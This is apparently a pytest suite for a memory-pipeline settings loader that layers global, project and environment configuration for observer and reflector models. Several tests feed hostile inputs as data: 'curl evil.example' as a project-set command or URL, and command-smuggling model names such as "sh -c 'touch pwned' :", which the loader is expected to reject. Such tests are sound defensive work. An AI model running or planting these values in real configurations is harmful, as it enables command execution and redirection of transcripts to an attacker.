"""memory.json: the global file, the project's over it, the environment over both; a project redirects nothing."""

import json
from pathlib import Path
from typing import Any

import pytest

from memory_pipeline.memory_json import paths
from memory_pipeline.settings import SettingError, load_settings


@pytest.fixture(autouse=True)
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The working directory is a project of the test's own."""
    (tmp_path / "project").mkdir()
    monkeypatch.chdir(tmp_path / "project")


def write(which: int, content: Any) -> Path:
    """The global (0) or the project's (1) file."""
    path = paths()[which]
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(content if isinstance(content, str) else json.dumps(content), "utf-8")
    return path


GOOGLE = {"provider": "google", "model": "gemini-2.5-flash", "temperature": 0.1, "maxOutputTokens": 9000}


def test_without_a_file_no_model_is_asked() -> None:
    assert load_settings().observer.model is None


def test_the_global_file_names_the_model() -> None:
    write(0, {"observer": GOOGLE, "$schema": "…"})
    settings = load_settings()
    assert settings.observer.model == "google:gemini-2.5-flash"
    assert (settings.observer.temperature, settings.observer.max_output_tokens) == (0.1, 9000)


def test_what_the_project_says_counts_more() -> None:
    write(0, {"observer": GOOGLE})
    write(1, {"observer": {"model": "gemini-2.5-pro", "temperature": 0}})
    settings = load_settings()
    assert settings.observer.model == "google:gemini-2.5-pro"
    assert (settings.observer.temperature, settings.observer.max_output_tokens) == (0, 9000)


def test_what_the_environment_says_counts_most(monkeypatch: pytest.MonkeyPatch) -> None:
    write(0, {"observer": GOOGLE})
    monkeypatch.setenv("OBSERVER_MODEL", "ollama:qwen2.5:7b")
    settings = load_settings()
    assert (settings.observer.model, settings.observer.temperature) == ("ollama:qwen2.5:7b", 0.1)


@pytest.mark.parametrize("which", [0, 1])
def test_either_file_switches_it_off(which: int) -> None:
    write(0, {"observer": GOOGLE})
    write(which, {"enabled": False, "observer": GOOGLE})
    assert load_settings().observer.model is None


def test_a_command_and_a_provider_within_the_name() -> None:
    write(0, {"observer": {"command": "pi -p --no-session"}})
    assert load_settings().observer.model == "pi -p --no-session"
    write(0, {"observer": {"model": "openai:gpt-5-mini", "baseUrl": "http://localhost:8000/v1", "price": "0/0"}})
    settings = load_settings()
    assert (settings.observer.model, settings.observer.base_url) == ("openai:gpt-5-mini", "http://localhost:8000/v1")
    assert settings.observer.price == "0/0"


def test_the_reflector_has_a_part_of_its_own() -> None:
    reflector = {"provider": "anthropic", "model": "claude-sonnet-4-5", "price": "3/15"}
    write(0, {"observer": GOOGLE, "reflector": reflector})
    write(1, {"reflector": {"temperature": 0.2, "maxOutputTokens": 4000}})
    settings = load_settings()
    assert (settings.observer.model, settings.reflector.model) == (
        "google:gemini-2.5-flash",
        "anthropic:claude-sonnet-4-5",
    )
    assert (settings.reflector.price, settings.observer.price) == ("3/15", None)
    assert (settings.reflector.temperature, settings.reflector.max_output_tokens) == (0.2, 4000)
    assert settings.observer.temperature == 0.1


@pytest.mark.parametrize("which", [0, 1])
def test_the_reflectors_threshold_is_when_it_reflects_early(which: int, monkeypatch: pytest.MonkeyPatch) -> None:
    write(which, {"reflector": {"observationTokenThreshold": 9000}})
    assert load_settings().reflect_early_tokens == 9000
    write(which, {"enabled": False, "reflector": {"observationTokenThreshold": 9000}})
    assert load_settings().reflect_early_tokens == 40_000
    monkeypatch.setenv("MEMORY_REFLECT_EARLY_TOKENS", "7000")
    write(which, {"reflector": {"observationTokenThreshold": 9000}})
    assert load_settings().reflect_early_tokens == 7000


def test_a_project_redirects_the_reflector_no_more_than_the_observer() -> None:
    write(1, {"reflector": {"command": "curl evil.example"}})
    with pytest.raises(SettingError, match=r"reflector\.command counts only in"):
        load_settings()


@pytest.mark.parametrize("key", ["command", "baseUrl", "price"])
def test_a_project_says_neither_what_is_run_nor_where_transcripts_go(key: str) -> None:
    write(0, {"observer": GOOGLE})
    write(1, {"observer": {key: "curl evil.example"}})
    with pytest.raises(SettingError, match=rf"\.pi/memory\.json: observer\.{key} counts only in .*agent/memory\.json"):
        load_settings()


@pytest.mark.parametrize("which", [0, 1])
@pytest.mark.parametrize(
    "observer",
    [
        {"model": "sh -c 'touch pwned' :"},  # words with a space are run as a command
        {"provider": "sh -c 'touch pwned' ", "model": "gpt"},
        {"provider": "openai", "model": "gpt\tpwned"},
        {"provider": "sh ", "model": "gpt"},
    ],
)
def test_a_name_of_a_model_is_never_a_command(which: int, observer: dict[str, str]) -> None:
    path = write(which, {"observer": observer})
    with pytest.raises(SettingError, match=r"observer\.(model|provider) should be a name without spaces") as caught:
        load_settings()
    assert f"{path}" in f"{caught.value}"


@pytest.mark.parametrize(
    ("content", "said"),
    [
        ("{", "cannot be read"),
        ([], "expected an object"),
        ({"enabled": "yes"}, "expected an object"),
        ({"observer": "gemini"}, "observer should be an object"),
        ({"reflector": 3}, "reflector should be an object"),
        ({"observer": {"temperatur": 0}}, "observer.temperatur is not known; expected provider, model"),
        ({"observer": {"temperatur": 0}}, "; the nearest is temperature."),
        (
            {"obsever": {"model": "x:y"}},
            "obsever is not known; expected enabled, observer, reflector, $schema; the nearest is",
        ),
        ({"theme": "dark"}, "theme is not known; expected enabled, observer, reflector, $schema."),
        (
            {"observer": {"messageTokenThreshold": 9000}},
            "observer.messageTokenThreshold says when pi's extension observes",
        ),
        ({"observer": {"messageTokenThreshold": 9000}}, "take it out, and set MEMORY_IDLE_MINUTES"),
        ({"observer": {"observationTokenThreshold": 9000}}, "observer.observationTokenThreshold is not known"),
        ({"reflector": {"messageTokenThreshold": 9000}}, "reflector.messageTokenThreshold says when"),
        ({"reflector": {"observationTokenThreshold": "9000"}}, "observationTokenThreshold should be a number"),
        ({"reflector": {"observationTokenThreshold": 0}}, "greater than or equal to 1; correct it or take it out"),
        ({"observer": {"temperature": "hot"}}, "observer.temperature should be a number, not 'hot'"),
        ({"observer": {"maxOutputTokens": True}}, "observer.maxOutputTokens should be a number"),
        ({"observer": {"model": 5}}, "observer.model should be a text, not 5"),
        ({"observer": {"model": "gemini"}}, "there is no observer.provider"),
        ({"reflector": {"model": "gemini"}}, "there is no reflector.provider"),
    ],
)
def test_a_wrong_file_is_named_with_what_was_expected(content: Any, said: str) -> None:
    path = write(0, content)
    with pytest.raises(SettingError) as caught:
        load_settings()
    assert f"{caught.value}".startswith(str(path)) and said in f"{caught.value}"


def test_the_harness_may_have_its_folder_elsewhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PI_CODING_AGENT_DIR", str(tmp_path / "elsewhere"))
    assert write(0, {"observer": GOOGLE}) == tmp_path / "elsewhere/memory.json"
    assert load_settings().observer.model == "google:gemini-2.5-flash"


def test_a_project_switches_nothing_on_and_no_provider() -> None:
    write(1, {"observer": GOOGLE})
    assert load_settings().observer.model is None
    write(0, {"enabled": False, "observer": GOOGLE})
    write(1, {"enabled": True, "observer": GOOGLE})
    assert load_settings().observer.model is None
    write(0, {"observer": GOOGLE})
    for elsewhere in ({"provider": "openrouter"}, {"provider": "anthropic", "model": "claude-haiku-4-5"}):
        write(1, {"observer": elsewhere})
        with pytest.raises(SettingError, match=r"memory\.json: observer may be another model of google, not "):
            load_settings()
